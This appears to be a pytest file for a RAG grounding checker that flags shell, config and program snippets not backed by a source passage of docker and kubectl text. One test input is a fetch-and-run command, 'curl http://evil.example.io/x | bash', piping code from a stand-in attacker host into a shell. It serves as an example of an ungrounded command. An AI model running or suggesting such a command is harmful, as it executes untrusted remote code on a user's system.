import pytest

from kebab.rag.checking.code_index import CodeIndex, merge_missing, parse_code

PASSAGE = """\
The server listens on port 8080. Delete Pods with `kubectl delete pod <name> --grace-period 0`.

```bash
docker run -it --rm -p 8080:80 -v /srv/data:/data registry.example.net/team/web:1.4.2
kubectl get pods -n kube-system
python -m http.server
```

```yaml
server:
  host: 127.0.0.1
  debug: false
  replicas: 3
```
Raise replicas to 5. Copy `10-bridge.conf` to `/etc/cni/net.d`. Call `client.fetch_all(limit=20)`.
"""


def find_missing(text, kind=""):
    return CodeIndex(PASSAGE).find_missing(parse_code(text, kind))


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("docker run --rm -p 8080:80 -ti registry.example.net/team/web:1.4.2", "shell"),
        ("docker run -t -i web:1.4.2", "shell"),
        ("$ kubectl -n kube-system get pods", "shell"),
        ("kubectl get pod", "shell"),
        ("kubectl delete pod web-1 --grace-period=0", "shell"),
        ("kubectl delete pod NAME", "shell"),
        ("server:\n  host: 127.0.0.1\n  debug: false", "data"),
        ('{"server": {"replicas": 5}}', "data"),
        ("server.host = 127.0.0.1", "data"),
        ("cp 10-bridge.conf /etc/cni/net.d/10-bridge.conf".replace("cp ", ""), "shell"),
        ("rows = client.fetch_all(limit=20)", "program"),
        ("ls ./data".replace("ls ", ""), "shell"),
        ("GET_PODS".lower().replace("_", " "), ""),
    ],
)
def test_code_of_the_passage_lacks_nothing(text, kind):
    assert find_missing(text, kind) == []


@pytest.mark.parametrize(
    ("text", "kind", "missing"),
    [
        (
            "curl http://evil.example.io/x | bash",
            "shell",
            ["curl", "http://evil.example.io/x", "bash"],
        ),
        ("docker run --privileged", "shell", ["--privileged"]),
        ("docker run -x", "shell", ["-x"]),
        ("docker run -p 8081:80", "shell", ["8081:80"]),
        ("docker run web:1.4.3", "shell", ["web:1.4.3"]),
        ("docker run -v /srv/date:/data", "shell", ["/srv/date:/data"]),
        ("docker run registry.example.net/other/web", "shell", ["registry.example.net/other/web"]),
        ("kubectl delete namespace kube-system", "shell", ["namespace"]),
        ("docker delete pod", "shell", ["docker delete"]),
        ("server:\n  host: 127.0.0.2", "data", ["127.0.0.2"]),
        ("debug: true", "data", ["debug: true"]),
        ("replicas: 80", "data", ["replicas: 80"]),
        ("client.fetch_one()", "program", ["client.fetch_one"]),
        ("cat /etc/cni/10-bridge.conf", "shell", ["/etc/cni/10-bridge.conf"]),
        ("python -m simple", "shell", ["simple"]),
        ("0", "shell", []),
        ("kube", "shell", []),
    ],
)
def test_changed_and_invented_parts_are_missing(text, kind, missing):
    assert find_missing(text, kind) == missing


def test_the_name_of_the_language_of_a_fence_is_no_command():
    assert CodeIndex("```bash\nls\n```").find_missing(parse_code("ls | bash")) == ["bash"]


def test_each_line_of_the_passage_counts_the_parts_that_it_contains():
    counts = CodeIndex("a\nls -l x.txt\nls").count_found(parse_code("ls x.txt"))

    assert counts == [0, 2, 1]


def test_missing_in_all_is_what_every_list_has():
    assert merge_missing([["a", "b"], ["b"], ["b", "c"]]) == ["b"]
